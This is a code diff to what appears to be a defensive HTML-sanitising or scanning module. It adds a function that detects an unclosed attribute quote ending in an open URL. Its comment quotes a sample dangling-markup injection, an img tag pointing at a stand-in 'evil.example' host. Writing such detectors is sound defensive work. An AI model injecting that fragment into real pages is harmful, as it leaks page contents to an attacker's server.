@@ -1,4 +1,4 @@
-// Whether a script element could run at all: what a parser of JavaScript refuses does nothing, whatever it goes on with.
+// Whether a script element or a handler does anything, and what an attribute takes in that is left open.
 
 import { isLetter, isWord } from '../classes.ts';
 
@@ -35,6 +35,18 @@ export function changesItself(text: string, start: number, end: number): boolean
   const last = text.charCodeAt(end - 1) === 34 ? end - 1 : end;
   const statements = text.slice(start, last).toLowerCase().split(';', 6);
   return statements.every((one) => isOwnChange(one.trim().replaceAll(' ', '')));
+}
+
+/**
+ * Whether the quote before `start` is never closed, and what it holds is nothing, or an address that waits for more: `<img
+ * src='http://evil.example/?`. What was cut short by its length ends in the midst of a word.
+ */
+export function isLeftOpen(text: string, start: number): boolean {
+  const quote = text.charAt(start - 1);
+  if ((quote !== "'" && quote !== '"') || text.length - start > 128 || text.indexOf(quote, start) >= 0) return false;
+  const rest = text.slice(start);
+  if (rest === '') return quote === "'";
+  return (rest.endsWith('?') || rest.endsWith('=')) && (rest.startsWith('//') || rest.startsWith('http'));
 }
 
 function isOwnChange(statement: string): boolean {
